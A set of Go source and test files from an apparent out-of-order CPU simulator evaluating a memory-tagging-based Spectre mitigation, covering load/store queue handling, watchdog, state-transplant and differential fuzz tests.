		Spec: spec, BlockUnsafe: c.specChecks, Ghost: ghostUsed,
	})
	e.memIssued = true
	e.tagOK = res.TagOK
	c.obsRecord(e.seq, e.pc, obs.EvMem, mte.Strip(e.addr))
	e.state, e.doneAt = stWaitMem, res.ReadyAt
	if c.specChecks && !c.cfg.EarlyTagCheck {
		// Ablation: without the early tag-check propagation of §3.3.1 (L1
		// signal, MSHR flag), the outcome is recomputed at the core after
		// the response arrives, and data cannot be released until then.
		e.doneAt += lateTagCheckPenalty
	}
	bump(&c.nLoads, c.Stats, "loads_issued")
	if c.TraceFn != nil {
		c.trace("cycle %d: load seq=%d pc=%#x addr=%#x key=%d lock=%d tagOK=%v spec=%v served=%s ready=%d blocked=%v",
			c.cycle, e.seq, e.pc, mte.Strip(e.addr), mte.Key(e.addr), res.Lock,
			res.TagOK, spec, res.ServedBy, res.ReadyAt, res.Blocked)
	}

	// Leak-oracle: a speculatively issued access whose *address* derives
	// from secret data perturbs the cache (and MSHRs on a miss).
	if e.secret && trans && c.oracle.HasSecrets() && !ghostUsed {
		c.recordEvent(e, core.ChanCache)
		if res.ServedBy != "l1" {
			c.recordEvent(e, core.ChanMSHR)
		}
	}
}

func extractBytes(v uint64, off, size int) uint64 {
	v >>= uint(8 * off)
	if size >= 8 {
		return v
	}
	return v & (uint64(1)<<(8*size) - 1)
}

// checkOrderViolation runs when a store's address resolves: any younger load
// that already executed against an overlapping address speculated wrongly
// and must be squashed (Spectre-STL's closing edge).
func (c *Core) checkOrderViolation(st *robEntry) bool {
	sa := mte.Strip(st.addr)
	ssize := st.inst.MemBytes()
	for _, s := range c.loadQ {
		if s <= st.seq {
			continue
		}
		e := &c.rob[s&c.robMask]
		if !e.addrReady {
			continue
		}
		if e.state != stDone && e.state != stWaitMem {
			continue
		}
		if e.forwardedFrom > st.seq {
			continue // got its data from a younger store: unaffected
		}
		if rangesOverlap(mte.Strip(e.addr), e.inst.MemBytes(), sa, ssize) {
			c.trainMDU(e.pc, true)
			c.Stats.Inc("order_violations")
			// Squash from the violating load (inclusive) and refetch it.
			c.squashAfter(e.seq-1, e.pc)
			return true
		}
	}
	return false
}

// advanceLSQ completes outstanding memory responses and replays unsafe
// accesses whose speculation has resolved.
func (c *Core) advanceLSQ() {
	// Only loads ever sit in stWaitMem/stWaitUnsafe (stores and atomics
	// complete at execute), so walking loadQ visits the same entries the old
	// full-window scan did, in the same ascending order.
	for _, s := range c.loadQ {
		e := &c.rob[s&c.robMask]
		switch e.state {
		case stWaitMem:
			if e.doneAt <= c.cycle {
				c.completeMemAccess(e)
			}
		case stWaitUnsafe:
			if !c.speculative(e) {
				c.replayUnsafe(e)
			}
		}
	}
}

// completeMemAccess finalises a load when its cache response arrives.
func (c *Core) completeMemAccess(e *robEntry) {
	if e.assist {
		// Assisted loads already carry their (transient) result; they
		// fault at commit.
		c.setDone(e, e.doneAt)
		return
	}
	if !e.replayed {
		c.tsh.OnResult(e.seq, e.tagOK)
	}
	if c.specChecks && !e.tagOK && c.speculative(e) {
		// Unsafe speculative access (Figure 4 ⑤/⑥): no data was returned;
		// hold until speculation resolves.
		e.state = stWaitUnsafe
		c.onUnsafeAccess(e)
		if c.Rec != nil {
			c.Rec.onUnsafe(e)
		}
		if c.TraceFn != nil {
			c.trace("cycle %d: seq=%d tcs=unsafe (SSA=0), delaying until speculation resolves", c.cycle, e.seq)
		}
		return
	}
	size := e.inst.MemBytes()
	c.enterShared()
	e.result, e.hasResult = c.img.ReadUint(mte.Strip(e.addr), size), true
	if c.mteOn && !e.tagOK {
		// Committed-path MTE semantics: fault at commit. (Under plain MTE
		// a mispredicted path never reaches commit — the Spectre gap.)
		e.fault, e.faultIsTag = true, true
		c.markRisk(e)
	}
	c.setDone(e, e.doneAt)
	if !e.secret && c.oracle.HasSecrets() &&
		c.oracle.IsSecret(mte.Strip(e.addr), size) {
		e.secret = true
		if c.transient(e) {
			c.oracle.SecretReads++
		}
	}
	if c.taintOn && (c.speculative(e) || e.memDepSpec) {
		// STT: the value returned by a load executed under prediction-based
		// speculation is tainted with this load as its root.
		e.taintRoot = e.seq
	}
	c.trainMDU(e.pc, false)
}

// replayUnsafe re-issues a delayed unsafe access once it is no longer under
// speculation (Figure 4 ⑦: replay or fault).
func (c *Core) replayUnsafe(e *robEntry) {
	c.tsh.OnReplay(e.seq)
	e.replayed = true
	if e.unsafeSince != 0 {
		d := c.cycle - e.unsafeSince
		if c.Met != nil {
			c.Met.TagDelay.Observe(d)
		}
		c.obsRecord(e.seq, e.pc, obs.EvTagDelayEnd, d)
		e.unsafeSince = 0
	}
	c.enterShared()
	res := c.hier.Access(cache.AccessReq{
		Core: c.ID, Ptr: e.addr, Size: e.inst.MemBytes(), Now: c.cycle,
	})
	e.tagOK = res.TagOK
	c.obsRecord(e.seq, e.pc, obs.EvMem, mte.Strip(e.addr))
	e.state = stWaitMem
	e.doneAt = res.ReadyAt + c.cfg.BroadcastLatency
	c.Stats.Inc("unsafe_replays")
}
