package cpu

import (
	"strings"
	"testing"

	"specasan/internal/asm"
	"specasan/internal/core"
)

func wedgeProg(t *testing.T) *asm.Program {
	t.Helper()
	prog, err := asm.Assemble(`
_start:
    MOV  X1, #0
loop:
    ADD  X1, X1, #1
    CMP  X1, #100000000
    B.LT loop
    SVC  #0
`)
	if err != nil {
		t.Fatal(err)
	}
	return prog
}

// A commit-stage freeze must be caught by the watchdog as a structured
// SimError carrying a pipeview snapshot — not burn the MaxCycles budget and
// report an anonymous timeout.
func TestWatchdogCatchesWedgedPipeline(t *testing.T) {
	m, err := NewMachine(core.DefaultConfig(), core.Unsafe, wedgeProg(t))
	if err != nil {
		t.Fatal(err)
	}
	m.Watchdog.StallCycles = 2000 // keep the test fast
	m.Core(0).InjectWedge()
	res := m.Run(50_000_000)
	if res.Err == nil {
		t.Fatalf("wedged pipeline not caught: %v", res)
	}
	if res.Err.Kind != "commit-stall" || res.Err.Core != 0 {
		t.Fatalf("wrong verdict: %v", res.Err)
	}
	if res.TimedOut {
		t.Fatal("watchdog verdict should supersede the timeout flag")
	}
	if res.Cycles > 1_000_000 {
		t.Fatalf("watchdog fired only after %d cycles", res.Cycles)
	}
	if !strings.Contains(res.Err.Snapshot, "rob head=") ||
		!strings.Contains(res.Err.Snapshot, "seq=") {
		t.Fatalf("snapshot missing pipeline state:\n%s", res.Err.Snapshot)
	}
	if !strings.Contains(res.Err.Error(), "commit-stall") {
		t.Fatalf("Error() = %q", res.Err.Error())
	}
}

// Corrupted LSQ bookkeeping (here: a leaked IQ slot) must be caught as an
// invariant violation rather than surfacing later as a mystery deadlock.
func TestWatchdogCatchesCounterCorruption(t *testing.T) {
	m, err := NewMachine(core.DefaultConfig(), core.Unsafe, wedgeProg(t))
	if err != nil {
		t.Fatal(err)
	}
	m.Watchdog.CheckEvery = 64
	wedged := false
	m.PerCycle = func(cycle uint64) {
		if cycle == 1000 && !wedged {
			m.Core(0).iqCount += 3 // simulate a counter leak
			wedged = true
		}
	}
	res := m.Run(1_000_000)
	if res.Err == nil || res.Err.Kind != "lsq-invariant" {
		t.Fatalf("counter corruption not caught: %v", res)
	}
}

// A healthy run must pass under the watchdog without a verdict.
func TestWatchdogQuietOnHealthyRun(t *testing.T) {
	prog, err := asm.Assemble(`
_start:
    MOV  X1, #0
loop:
    ADD  X1, X1, #1
    CMP  X1, #2000
    B.LT loop
    SVC  #0
`)
	if err != nil {
		t.Fatal(err)
	}
	m, err := NewMachine(core.DefaultConfig(), core.SpecASan, prog)
	if err != nil {
		t.Fatal(err)
	}
	res := m.Run(10_000_000)
	if res.Err != nil {
		t.Fatalf("false positive: %v\n%s", res.Err, res.Err.Snapshot)
	}
	if res.TimedOut || res.Faulted {
		t.Fatalf("run did not complete: %v", res)
	}
	if len(res.CoreStatuses) != 1 || !res.CoreStatuses[0].Halted {
		t.Fatalf("core status wrong: %+v", res.CoreStatuses)
	}
}

// A timed-out multicore run must name the cores that were still running.
func TestRunReportsTimedOutCores(t *testing.T) {
	// X0 = thread id: core 0 exits immediately, core 1 spins forever.
	prog, err := asm.Assemble(`
_start:
    CBZ  X0, done
spin:
    B    spin
done:
    SVC  #0
`)
	if err != nil {
		t.Fatal(err)
	}
	cfg := core.DefaultConfig()
	cfg.Cores = 2
	m, err := NewMachine(cfg, core.Unsafe, prog)
	if err != nil {
		t.Fatal(err)
	}
	m.Core(1).SetReg(1, 1) // X1 unused; ids come via X0
	m.Core(0).SetReg(0, 0)
	m.Core(1).SetReg(0, 1)
	m.Watchdog = nil // the spin loop commits forever; let the budget end it
	res := m.Run(20_000)
	if !res.TimedOut {
		t.Fatalf("expected timeout: %v", res)
	}
	cores := res.TimedOutCores()
	if len(cores) != 1 || cores[0] != 1 {
		t.Fatalf("TimedOutCores = %v, want [1]", cores)
	}
	if !res.CoreStatuses[0].Halted || res.CoreStatuses[1].TimedOut != true {
		t.Fatalf("statuses: %+v", res.CoreStatuses)
	}
	if !strings.Contains(res.String(), "timedOutCores=[1]") {
		t.Fatalf("String() = %q", res.String())
	}
}
