package cpu

// Small incremental structures backing the O(1) rename/wakeup pipeline (see
// DESIGN.md, "Performance of the substrate"). All of them hold instruction
// sequence numbers, are bounded by the ROB window, and are kept exact by
// dispatch/release so the stages they serve never rescan the window.

// seqRemove deletes one occurrence of v from the ascending seq list q,
// searching from the back (removals are dominated by squashes, which kill
// the youngest suffix). It is a no-op when v is absent.
func seqRemove(q []uint64, v uint64) []uint64 {
	for i := len(q) - 1; i >= 0; i-- {
		if q[i] == v {
			copy(q[i:], q[i+1:])
			return q[:len(q)-1]
		}
	}
	return q
}

// seqRemoveAll deletes every occurrence of v from q (a consumer registered
// once per renamed source can appear twice on a producer's wakeup list).
func seqRemoveAll(q []uint64, v uint64) []uint64 {
	n := 0
	for _, x := range q {
		if x != v {
			q[n] = x
			n++
		}
	}
	return q[:n]
}

// insertionSortU64 sorts q ascending in place. The ready queue is nearly
// sorted (out-of-order inserts only come from wakeups), so insertion sort
// beats the allocation and indirection of sort.Slice in the hot loop.
func insertionSortU64(q []uint64) {
	for i := 1; i < len(q); i++ {
		v := q[i]
		j := i - 1
		for j >= 0 && q[j] > v {
			q[j+1] = q[j]
			j--
		}
		q[j+1] = v
	}
}

// wakeEvent schedules consumer wakeup for a producer whose result becomes
// available at a future cycle.
type wakeEvent struct {
	at  uint64 // cycle the producer's result is available
	seq uint64 // producer sequence number
}

// wakePush inserts ev into the min-heap ordered by (at, seq).
func wakePush(h *[]wakeEvent, ev wakeEvent) {
	q := append(*h, ev)
	i := len(q) - 1
	for i > 0 {
		p := (i - 1) / 2
		if q[p].at < q[i].at || (q[p].at == q[i].at && q[p].seq <= q[i].seq) {
			break
		}
		q[p], q[i] = q[i], q[p]
		i = p
	}
	*h = q
}

// wakePop removes and returns the earliest event. The caller checks len>0.
func wakePop(h *[]wakeEvent) wakeEvent {
	q := *h
	top := q[0]
	n := len(q) - 1
	q[0] = q[n]
	q = q[:n]
	i := 0
	for {
		l, r := 2*i+1, 2*i+2
		m := i
		if l < n && (q[l].at < q[m].at || (q[l].at == q[m].at && q[l].seq < q[m].seq)) {
			m = l
		}
		if r < n && (q[r].at < q[m].at || (q[r].at == q[m].at && q[r].seq < q[m].seq)) {
			m = r
		}
		if m == i {
			break
		}
		q[i], q[m] = q[m], q[i]
		i = m
	}
	*h = q
	return top
}

// pow2ceil returns the smallest power of two >= n (minimum 1).
func pow2ceil(n int) int {
	p := 1
	for p < n {
		p *= 2
	}
	return p
}
