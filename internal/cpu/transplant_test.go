package cpu

// Exactness tests for the golden-state transplant seam: fast-forwarding N
// instructions functionally and transplanting into a detailed machine must
// be architecturally invisible — bit-identical registers, flags, PC, memory
// and MTE tags at instruction N, and a final state identical to the golden
// full walk after the detailed region finishes.

import (
	"fmt"
	"testing"

	"specasan/internal/asm"
	"specasan/internal/core"
	"specasan/internal/golden"
	"specasan/internal/isa"
	"specasan/internal/workloads"
)

// goldenTo runs a fresh golden interpreter exactly n instructions.
func goldenTo(t *testing.T, prog *asm.Program, mteOn bool, n uint64) *golden.Interp {
	t.Helper()
	ip := golden.New(prog)
	ip.MTEOn = mteOn
	ip.TagSeed = TagSeedBase
	if res := ip.Run(n); res.Insts != n {
		t.Fatalf("golden stopped early: %d/%d insts (%v)", res.Insts, n, res.Reason)
	}
	return ip
}

// diffMachineVsGolden compares a machine's committed architectural state at
// the transplant point against a golden interpreter: registers, flags, fetch
// PC, every mapped page's bytes, and the MTE tag store.
func diffMachineVsGolden(t *testing.T, m *Machine, ip *golden.Interp) {
	t.Helper()
	c := m.Core(0)
	if c.fetchPC != ip.PC() {
		t.Errorf("fetchPC = %#x, golden %#x", c.fetchPC, ip.PC())
	}
	diffFinalState(t, m, ip)
}

// diffFinalState is diffMachineVsGolden minus the PC: after a run to halt
// the golden interpreter rests on its SVC #0 while the machine's fetch has
// moved past it, so only registers, flags, memory and tags must agree.
func diffFinalState(t *testing.T, m *Machine, ip *golden.Interp) {
	t.Helper()
	c := m.Core(0)
	for r := isa.Reg(0); r < isa.NumRegs; r++ {
		if got, want := c.Reg(r), ip.Reg(r); got != want {
			t.Errorf("%v = %#x, golden %#x", r, got, want)
		}
	}
	if c.cFlags != flagsOf(ip) {
		t.Errorf("flags = %+v, golden %+v", c.cFlags, flagsOf(ip))
	}
	pages := map[uint64]bool{}
	for _, p := range m.Img.PageAddrs() {
		pages[p] = true
	}
	for _, p := range ip.Mem.PageAddrs() {
		pages[p] = true
	}
	for p := range pages {
		for off := uint64(0); off < 4096; off += 8 {
			if got, want := m.Img.ReadU64(p+off), ip.Mem.ReadU64(p+off); got != want {
				t.Fatalf("mem[%#x] = %#x, golden %#x", p+off, got, want)
			}
		}
	}
	if d := m.Img.Tags.DiffGranules(ip.Mem.Tags); len(d) != 0 {
		t.Fatalf("tag granules differ after transplant: %v", d)
	}
}

// flagsOf snapshots the golden interpreter's flags via a zero-cost snapshot.
func flagsOf(ip *golden.Interp) isa.Flags {
	// Snapshot clones memory too; acceptable in tests, and the only exported
	// flags accessor.
	return ip.Snapshot().Flags
}

// transplantAt fast-forwards n instructions and builds the detailed machine
// from the snapshot.
func transplantAt(t *testing.T, prog *asm.Program, mit core.Mitigation, n uint64) (*Machine, *golden.Interp) {
	t.Helper()
	ip := goldenTo(t, prog, mit.MTEEnabled(), n)
	m, err := NewMachineAt(core.DefaultConfig(), mit, prog, ip.Snapshot())
	if err != nil {
		t.Fatal(err)
	}
	return m, ip
}

// TestTransplantExactness: for budgets N straddling basic-block boundaries,
// the machine built from a snapshot at N must match an independent golden
// walk to N bit for bit, before executing a single detailed cycle.
func TestTransplantExactness(t *testing.T) {
	spec := workloads.ByName("505.mcf_r")
	for _, mit := range []core.Mitigation{core.Unsafe, core.SpecASan} {
		prog, err := spec.Build(mit.MTEEnabled(), 0.1)
		if err != nil {
			t.Fatal(err)
		}
		// 1 and 2 land inside the entry block; the rest land at arbitrary
		// points of loop bodies (blocks in these kernels are 3-40 insts).
		for _, n := range []uint64{1, 2, 7, 63, 1000, 4097, 50_000} {
			t.Run(fmt.Sprintf("%v/n=%d", mit, n), func(t *testing.T) {
				m, _ := transplantAt(t, prog, mit, n)
				ref := goldenTo(t, prog, mit.MTEEnabled(), n)
				diffMachineVsGolden(t, m, ref)
			})
		}
	}
}

// TestTransplantRunsToGoldenFinalState: fast-forward + transplant + detailed
// execution of the remainder must reach the same final architectural state
// as the golden full walk (the PR 4-style end-to-end exactness property).
func TestTransplantRunsToGoldenFinalState(t *testing.T) {
	spec := workloads.ByName("531.deepsjeng_r")
	for _, mit := range []core.Mitigation{core.Unsafe, core.SpecASan} {
		prog, err := spec.Build(mit.MTEEnabled(), 0.05)
		if err != nil {
			t.Fatal(err)
		}
		full := golden.New(prog)
		full.MTEOn = mit.MTEEnabled()
		full.TagSeed = TagSeedBase
		fres := full.Run(1 << 40)
		if fres.Reason != golden.StopExit {
			t.Fatalf("golden full walk: %v", fres.Reason)
		}
		for _, n := range []uint64{5, 999, fres.Insts * 9 / 10} {
			t.Run(fmt.Sprintf("%v/n=%d", mit, n), func(t *testing.T) {
				m, _ := transplantAt(t, prog, mit, n)
				mres := m.Run(500_000_000)
				if mres.TimedOut || mres.Faulted || mres.Err != nil {
					t.Fatalf("detailed remainder failed: %v", mres)
				}
				if got := mres.Committed + n; got != fres.Insts {
					t.Errorf("committed %d + ff %d != golden %d", mres.Committed, n, fres.Insts)
				}
				diffFinalState(t, m, full)
			})
		}
	}
}

// TestTransplantPageStraddle targets the 4 KiB seams: data writes and an
// ST2G whose two granules land on opposite sides of a page boundary, with
// the transplant taken between the tag write and the accesses that depend
// on it.
func TestTransplantPageStraddle(t *testing.T) {
	// 0x5ff0 is the last granule of page 0x5000; its ST2G partner granule
	// 0x6000 is the first of page 0x6000.
	src := `
_start:
    MOV  X1, #0x5ff0
    IRG  X1, X1
    ST2G X1, [X1]
    STR  X1, [X1]        ; 8 bytes fully inside granule one
    ADDG X2, X1, #8, #0  ; same key, +8: straddles the page boundary
    STR  X2, [X2]
    LDR  X3, [X2]
    LDR  X4, [X1]
    SVC  #0`
	prog := asm.MustAssemble(src)
	mit := core.SpecASan
	// Transplant after every single instruction of the program.
	for n := uint64(1); n <= 8; n++ {
		t.Run(fmt.Sprintf("n=%d", n), func(t *testing.T) {
			m, _ := transplantAt(t, prog, mit, n)
			ref := goldenTo(t, prog, true, n)
			diffMachineVsGolden(t, m, ref)
			// And the remainder must complete identically to the full walk.
			full := golden.New(prog)
			full.MTEOn = true
			full.TagSeed = TagSeedBase
			fres := full.Run(1 << 20)
			if fres.Reason != golden.StopExit {
				t.Fatalf("full walk: %v", fres.Reason)
			}
			mres := m.Run(10_000_000)
			if mres.TimedOut || mres.Faulted || mres.Err != nil {
				t.Fatalf("remainder: %v", mres)
			}
			diffFinalState(t, m, full)
		})
	}
}

// TestTransplantMidLoopPC transplants at PCs inside a loop body — in-flight-
// looking register state (partial accumulator, loop counter mid-count) —
// and checks the detailed machine continues to the same final state.
func TestTransplantMidLoopPC(t *testing.T) {
	src := `
_start:
    MOV X0, #0
    MOV X1, #0
    MOV X2, #0x3000
loop:
    ADD X1, X1, X0
    STR X1, [X2]
    LDR X3, [X2]
    ADD X0, X0, #1
    CMP X0, #200
    B.LT loop
    SVC #0`
	prog := asm.MustAssemble(src)
	full := golden.New(prog)
	fres := full.Run(1 << 20)
	if fres.Reason != golden.StopExit {
		t.Fatalf("full walk: %v", fres.Reason)
	}
	// The loop body is 6 instructions starting at inst index 3; these
	// budgets land on every distinct offset within an iteration.
	for _, n := range []uint64{3, 4, 5, 6, 7, 8, 9, 601, 602, 603} {
		t.Run(fmt.Sprintf("n=%d", n), func(t *testing.T) {
			m, ip := transplantAt(t, prog, core.Unsafe, n)
			if pc := ip.PC(); pc == prog.Entry {
				t.Fatalf("budget %d did not leave entry", n)
			}
			ref := goldenTo(t, prog, false, n)
			diffMachineVsGolden(t, m, ref)
			mres := m.Run(10_000_000)
			if mres.TimedOut || mres.Faulted || mres.Err != nil {
				t.Fatalf("remainder: %v", mres)
			}
			if mres.Committed+n != fres.Insts {
				t.Errorf("committed %d + ff %d != golden total %d", mres.Committed, n, fres.Insts)
			}
			diffFinalState(t, m, full)
		})
	}
}
