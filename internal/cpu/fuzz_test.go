package cpu

// Wider differential fuzzing: random programs across configuration corners
// (tiny ROB, single-wide pipeline, prefetcher on, multi-core) must still
// match the reference interpreter.

import (
	"fmt"
	"math/rand"
	"testing"

	"specasan/internal/asm"
	"specasan/internal/core"
	"specasan/internal/golden"
	"specasan/internal/isa"
)

func diffConfig(t *testing.T, cfg core.Config, mit core.Mitigation, src string) {
	t.Helper()
	prog, err := asm.Assemble(src)
	if err != nil {
		t.Fatal(err)
	}
	m, err := NewMachine(cfg, mit, prog)
	if err != nil {
		t.Fatal(err)
	}
	mres := m.Run(20_000_000)
	if mres.TimedOut {
		t.Fatalf("timed out: %v", mres)
	}
	ip := golden.New(prog)
	ip.MTEOn = mit.MTEEnabled()
	ip.TagSeed = TagSeedBase
	gres := ip.Run(20_000_000)
	if gres.Reason == golden.StopTagFault {
		if !mres.Faulted {
			t.Fatal("golden faulted, machine did not")
		}
		return
	}
	if mres.Faulted {
		t.Fatalf("machine faulted at %#x, golden did not", m.Core(0).FaultPC)
	}
	for r := isa.Reg(0); r < isa.NumRegs; r++ {
		if r == isa.XZR {
			continue
		}
		if got, want := m.Core(0).Reg(r), gres.Regs[r]; got != want {
			t.Errorf("%v = %#x, want %#x", r, got, want)
		}
	}
}

// TestDifferentialConfigCorners runs random programs on stressed pipeline
// geometries: back-pressure paths (tiny ROB/IQ/LSQ), a scalar pipe, and the
// prefetcher.
func TestDifferentialConfigCorners(t *testing.T) {
	corners := []struct {
		name  string
		tweak func(*core.Config)
	}{
		{"tinyROB", func(c *core.Config) { c.ROBEntries = 8; c.IQEntries = 4 }},
		{"tinyLSQ", func(c *core.Config) { c.LQEntries = 2; c.SQEntries = 2 }},
		{"scalar", func(c *core.Config) {
			c.FetchWidth, c.IssueWidth, c.CommitWidth = 1, 1, 1
			c.ALUs, c.LoadPorts = 1, 1
		}},
		{"prefetcher", func(c *core.Config) { c.PrefetcherOn = true }},
		{"checkedPrefetch", func(c *core.Config) { c.PrefetcherOn = true; c.PrefetchChecked = true }},
		{"slowBroadcast", func(c *core.Config) { c.BroadcastLatency = 6 }},
		{"deepBranch", func(c *core.Config) { c.BranchLat = 14 }},
	}
	for seed := int64(100); seed < 104; seed++ {
		rng := rand.New(rand.NewSource(seed))
		src := genRandomProgram(rng, seed%2 == 0)
		for _, c := range corners {
			c := c
			t.Run(fmt.Sprintf("%s/seed%d", c.name, seed), func(t *testing.T) {
				cfg := core.DefaultConfig()
				c.tweak(&cfg)
				for _, mit := range []core.Mitigation{core.Unsafe, core.SpecASan} {
					diffConfig(t, cfg, mit, src)
				}
			})
		}
	}
}

// TestDifferentialMultiCore runs an SPMD random program on 4 cores against
// 4 independent golden interpreters (the partitions are disjoint, so the
// per-core architectural state must match exactly).
func TestDifferentialMultiCore(t *testing.T) {
	for seed := int64(200); seed < 203; seed++ {
		rng := rand.New(rand.NewSource(seed))
		// Partitioned buffers: each thread uses buf + X0*0x10000.
		src := fmt.Sprintf(`
_start:
    MOV X10, #0x40000
    MOV X1, #0x10000
    MUL X1, X0, X1
    ADD X10, X10, X1
    MOV X12, #%d
loop:
    MUL X6, X6, X7
    ADD X6, X6, #13
    LSR X2, X6, #40
    AND X2, X2, #4088
    ADD X3, X10, X2
    STR X6, [X3]
    LDR X4, [X3]
    EOR X5, X5, X4
    SUB X12, X12, #1
    CBNZ X12, loop
    SVC #0
`, 50+rng.Intn(100))
		prog := asm.MustAssemble(src)
		cfg := core.DefaultConfig()
		cfg.Cores = 4
		m, err := NewMachine(cfg, core.Unsafe, prog)
		if err != nil {
			t.Fatal(err)
		}
		for i := 0; i < 4; i++ {
			m.Core(i).SetReg(isa.X0, uint64(i))
			m.Core(i).SetReg(isa.X7, 6364136223846793005)
		}
		res := m.Run(50_000_000)
		if res.TimedOut {
			t.Fatalf("timed out: %v", res)
		}
		for i := 0; i < 4; i++ {
			ip := golden.New(prog)
			ip.TagSeed = TagSeedBase + uint64(i)
			ip.SetReg(isa.X0, uint64(i))
			ip.SetReg(isa.X7, 6364136223846793005)
			g := ip.Run(50_000_000)
			if g.Reason != golden.StopExit {
				t.Fatalf("golden core %d: %v", i, g.Reason)
			}
			if got, want := m.Core(i).Reg(isa.X5), g.Regs[isa.X5]; got != want {
				t.Errorf("core %d X5 = %#x, want %#x", i, got, want)
			}
		}
	}
}

// TestROBNeverOverflows is a structural invariant under random programs.
func TestROBNeverOverflows(t *testing.T) {
	rng := rand.New(rand.NewSource(7))
	src := genRandomProgram(rng, false)
	prog := asm.MustAssemble(src)
	cfg := core.DefaultConfig()
	cfg.ROBEntries = 12
	m, err := NewMachine(cfg, core.Unsafe, prog)
	if err != nil {
		t.Fatal(err)
	}
	for !m.Done() && m.Cycle() < 5_000_000 {
		m.Step()
		if n := m.Core(0).robCount(); n > cfg.ROBEntries {
			t.Fatalf("ROB occupancy %d > capacity %d", n, cfg.ROBEntries)
		}
	}
	if !m.Done() {
		t.Fatal("timed out")
	}
}
