package cpu

// State transplant: install a golden-interpreter architectural snapshot into
// a fresh cycle-accurate machine. This is the seam fast-forward sampling
// stands on — a run executes N instructions functionally (hundreds of MIPS),
// then switches to cycle-accurate simulation from exactly that state.
//
// Exactness argument: the machine's committed state is (cRegs, cFlags,
// fetchPC, memory image incl. MTE tag sidecars, output stream). A fresh
// machine has no speculative state — empty ROB/LSQ, reset TSH, cold caches
// and predictors — so installing the snapshot into those five committed
// pieces reproduces the golden interpreter's architectural state bit for
// bit. Micro-architectural state (caches, predictors, TSH occupancy) is
// deliberately cold: sampling runs warm it with a configurable number of
// detailed cycles before counters are read (see harness). Tests assert
// golden(full walk) == golden(N) + transplant + detailed(rest) on final
// registers, memory, tags and output.

import (
	"fmt"

	"specasan/internal/asm"
	"specasan/internal/core"
	"specasan/internal/golden"
	"specasan/internal/isa"
)

// NewMachineAt builds a single-core machine whose architectural start state
// is the golden snapshot st rather than the program's entry point. The
// machine takes ownership of st.Mem (snapshots are already deep copies;
// callers reusing one snapshot across machines must Clone it per machine).
// The program is still needed for instruction fetch — code lives in the
// frontend, not the image, so the snapshot cannot drift from the text.
func NewMachineAt(cfg core.Config, mit core.Mitigation, prog *asm.Program, st *golden.State) (*Machine, error) {
	return NewMachineAtFrontend(cfg, mit, AssembledFrontend{Prog: prog}, st)
}

// NewMachineAtFrontend is NewMachineAt over an arbitrary instruction source
// — the transplant seam's frontend form. The frontend's InitImage is NOT
// called: the snapshot's memory image already holds the program's data in
// whatever state the functional walk left it.
func NewMachineAtFrontend(cfg core.Config, mit core.Mitigation, fe Frontend, st *golden.State) (*Machine, error) {
	if cfg.Cores != 1 {
		return nil, fmt.Errorf("cpu: state transplant requires a single-core config, got %d cores", cfg.Cores)
	}
	m, err := newMachineOn(cfg, mit, fe, st.Mem)
	if err != nil {
		return nil, err
	}
	c := m.Cores[0]
	c.cRegs = st.Regs
	c.cRegs[isa.XZR] = 0
	c.cFlags = st.Flags
	c.fetchPC = st.PC
	c.Output = append(c.Output, st.Output...)
	return m, nil
}

// WarmCaches replays a functional run's recorded memory touches into the
// machine's cache hierarchy, so detailed execution after a transplant does
// not start against stone-cold caches (the dominant error source in sampled
// IPC otherwise). The transplant seam is single-core, so everything warms
// core 0. Safe to call with a nil or empty ring.
func (m *Machine) WarmCaches(tr *golden.TouchRing) {
	if tr == nil || tr.Len() == 0 {
		return
	}
	seq := uint64(0)
	tr.Each(func(addr uint64, write, ifetch bool) {
		if ifetch {
			m.Hier.WarmInst(0, addr, seq)
		} else {
			m.Hier.WarmData(0, addr, write, seq)
		}
		seq++
	})
	m.Hier.FinishWarm()
}
