// Package cpu implements the cycle-level out-of-order core of the simulated
// machine: an 8-wide fetch/rename/issue/commit pipeline with a reorder
// buffer, load/store queues with store-to-load forwarding and memory
// dependence prediction, a functional-unit pool with port contention, branch
// prediction (PHT/BTB/RSB/BHB), and the security-policy hooks that implement
// SpecASan and the baseline mitigations it is compared against.
//
// The pipeline models the Table 2 configuration of the paper. Functional
// correctness is defined by internal/golden; differential tests in this
// package run both and compare architectural state.
package cpu

import (
	"specasan/internal/branch"
	"specasan/internal/cache"
	"specasan/internal/core"
	"specasan/internal/isa"
	"specasan/internal/mem"
	"specasan/internal/mte"
	"specasan/internal/obs"
	"specasan/internal/stats"
)

// entryState tracks an instruction's progress through the back end.
type entryState uint8

const (
	stDispatched entryState = iota // in ROB/IQ, waiting for operands or a port
	stExecuting                    // occupying a unit, result pending
	stWaitMem                      // memory access outstanding
	stWaitUnsafe                   // SpecASan: tag-mismatch delay until resolve
	stDone                         // result available
)

// source is a renamed operand: the committed register (producer == 0) or an
// in-flight producer identified by sequence number.
type source struct {
	reg      isa.Reg
	producer uint64 // 0 = read the committed register file
}

// robZero holds every robEntry scalar that resetFor returns to its zero
// value (stDispatched is 0, so state qualifies). Grouping them lets slot
// reuse clear the whole block with one memclr instead of ~35 scattered
// stores. doneAt/pendingSrcs/state lead so they land in the entry's first
// cache line next to the probe header.
type robZero struct {
	doneAt      uint64 // cycle the result becomes available
	pendingSrcs int    // renamed sources (incl. flags) still pending
	state       entryState

	hasResult   bool
	writesFlags bool
	inReadyQ    bool // member of Core.readyQ
	inRiskQ     bool // member of Core.riskQ

	// Branch bookkeeping.
	brResolved bool
	brTaken    bool

	// Memory bookkeeping.
	addrReady      bool
	memIssued      bool
	falloutForward bool // baseline partial-match forward happened
	assist         bool // load to an assist (permission-faulting) region
	memDepSpec     bool // issued past unresolved older store addresses
	prefetched     bool // SpecASan STL rule: prefetch issued while delayed

	// SpecASan.
	ssaKnown bool
	ssaSafe  bool
	replayed bool

	// Leak-oracle secret taint.
	secret bool

	// Commit-time exception.
	fault      bool
	faultIsTag bool

	policyDelayed bool // delayed >= 1 cycle by the active mitigation
	tookFlags     bool // this entry claimed the flags rename slot

	outFlags isa.Flags

	flagsFrom     uint64 // producer of NZCV this entry reads (0 = committed)
	result        uint64
	actualNext    uint64
	addr          uint64 // full pointer (key byte included)
	storeData     uint64
	forwardedFrom uint64 // store seq that forwarded data (0 = none)
	lastBranchSeq uint64 // youngest older branch at dispatch (0 = none)
	// STT taint: seq of the youngest speculative-load root this value
	// depends on (0 = untainted).
	taintRoot   uint64
	issuedAt    uint64 // cycle the entry left the issue stage (obs metrics)
	unsafeSince uint64 // cycle the SpecASan unsafe delay began (0 = not delayed)
	prevFlags   uint64 // RAT flags producer displaced (when tookFlags)
}

// robEntry is one in-flight instruction. Field order is deliberate: the
